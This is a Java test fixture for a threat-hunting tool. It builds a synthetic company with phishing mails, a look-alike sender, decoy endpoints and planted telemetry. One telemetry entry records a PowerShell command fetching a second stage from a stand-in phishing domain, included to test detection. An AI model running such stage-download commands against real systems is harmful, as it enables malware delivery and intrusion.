package dev.tiac.query;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;

/**
 * A small world of our own with one planted chain and every decoy kind: alice got the invoice,
 * opened its .iso from Outlook and ran a command line to the phishing domain; carol got it and never
 * opened it; erin's laptop had a file of that name before the delivery; dave's workstation (he got
 * no such mail) wrote the same file name; a look-alike sender mailed alice something she never opened.
 */
final class FixtureWorld {
  static final Instant NOW = Instant.parse("2026-11-20T12:00:00Z");
  static final Instant DELIVERED = NOW.minusSeconds(2 * 86_400);
  static final String SHA1 = "3395856ce81f2b7382dee72602f798b642f14140";
  static final String FILE = "invoice-4411.iso";
  static final String URL = "https://acme-sso-login.example/auth";
  static final String OUTLOOK_DIR = "C:\\Users\\alice\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\AB12CD\\";

  record User(String sam, String mail, String upn, String displayName, String department, String manager, List<String> groups) {}

  record Endpoint(String agentGuid, String host, String ip, String user) {}

  record Attachment(String name, String sha1) {}

  record Mail(String uniqueId, String messageId, String mailbox, String sender, String subject,
      Instant delivered, List<Attachment> attachments, List<String> urls, String sourceIp) {}

  /** One Endpoint Sensor event: a file written or a process started with a command line, under an account. */
  record Telemetry(String host, Instant time, String filePath, String commandLine, String account) {}

  final List<User> users = new ArrayList<>();
  final List<Endpoint> endpoints = new ArrayList<>();
  final List<Mail> mails = new ArrayList<>();
  final List<Telemetry> telemetry = new ArrayList<>();

  static FixtureWorld planted(int noiseMails) {
    FixtureWorld w = new FixtureWorld();
    String mgr = "CN=Bob Stone,OU=People,DC=corp,DC=acme,DC=example";
    w.users.add(new User("alice", "alice@acme.example", "alice@corp.acme.example", "Alice Ng", "Finance", mgr,
        List.of("CN=Finance,OU=Groups,DC=corp,DC=acme,DC=example")));
    w.users.add(new User("bob", "bob@acme.example", "bob@corp.acme.example", "Bob Stone", "Finance", "", List.of()));
    w.users.add(new User("carol", "carol@acme.example", "carol@corp.acme.example", "Carol Diaz", "HR", mgr, List.of()));
    w.users.add(new User("dave", "dave@acme.example", "dave@corp.acme.example", "Dave Lee", "Engineering", "", List.of()));
    w.users.add(new User("erin", "erin@acme.example", "erin@corp.acme.example", "Erin Park", "Operations", "", List.of()));
    w.endpoints.add(new Endpoint("agent-fin-0042", "FIN-LT-0042", "10.20.1.42", "CORP\\alice"));
    w.endpoints.add(new Endpoint("agent-hr-0007", "HR-LT-0007", "10.20.2.7", "CORP\\carol"));
    w.endpoints.add(new Endpoint("agent-eng-0100", "ENG-WS-0100", "10.20.3.100", "CORP\\dave"));
    w.endpoints.add(new Endpoint("agent-ops-0003", "OPS-LT-0003", "10.20.4.3", "CORP\\erin"));
    List<Attachment> iso = List.of(new Attachment(FILE, SHA1));
    for (String who : List.of("alice", "carol", "erin")) {
      w.mails.add(new Mail("uid-" + who, "<inv-4411@acme-billing.example>", who + "@acme.example",
          "billing@acme-billing.example", "Invoice 4411 overdue", DELIVERED, iso, List.of(URL), "203.0.113.45"));
    }
    w.mails.add(new Mail("uid-lookalike", "<st-1@acme-bi11ing.example>", "alice@acme.example",
        "billing@acme-bi11ing.example", "Invoice statement", DELIVERED.plusSeconds(600),
        List.of(new Attachment("statement.iso", "aa" + SHA1.substring(2))), List.of("https://acme-bi11ing.example/pay"), "198.51.100.9"));
    for (int i = 0; i < noiseMails; i++) {
      String to = w.users.get(i % w.users.size()).mail();
      w.mails.add(new Mail("uid-n" + i, "<n" + i + "@news.example>", to, "news@news.example",
          "Weekly news " + i, DELIVERED.minusSeconds(3600L * (i % 100)), List.of(), List.of("https://news.example/" + i), "192.0.2.1"));
    }
    Instant t = DELIVERED;
    w.telemetry.add(new Telemetry("FIN-LT-0042", t.plusSeconds(40 * 60), OUTLOOK_DIR + FILE, "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", "CORP\\alice"));
    w.telemetry.add(new Telemetry("FIN-LT-0042", t.plusSeconds(41 * 60), "", "\"C:\\Windows\\explorer.exe\" \"" + OUTLOOK_DIR + FILE + "\"", "CORP\\alice"));
    w.telemetry.add(new Telemetry("FIN-LT-0042", t.plusSeconds(45 * 60), "", "powershell.exe -nop -c iwr https://acme-sso-login.example/auth/stage2", "CORP\\alice"));
    w.telemetry.add(new Telemetry("HR-LT-0007", t.plusSeconds(3600), "", "notepad.exe C:\\Users\\carol\\todo.txt", "CORP\\carol"));
    w.telemetry.add(new Telemetry("OPS-LT-0003", t.minusSeconds(3 * 3600), "C:\\Users\\erin\\Downloads\\" + FILE, "", "CORP\\erin"));
    w.telemetry.add(new Telemetry("ENG-WS-0100", t.plusSeconds(3600), "C:\\Users\\dave\\Downloads\\" + FILE, "", "CORP\\dave"));
    return w;
  }

  Optional<Endpoint> endpoint(String host) {
    return endpoints.stream().filter(e -> e.host().equalsIgnoreCase(host)).findFirst();
  }
}
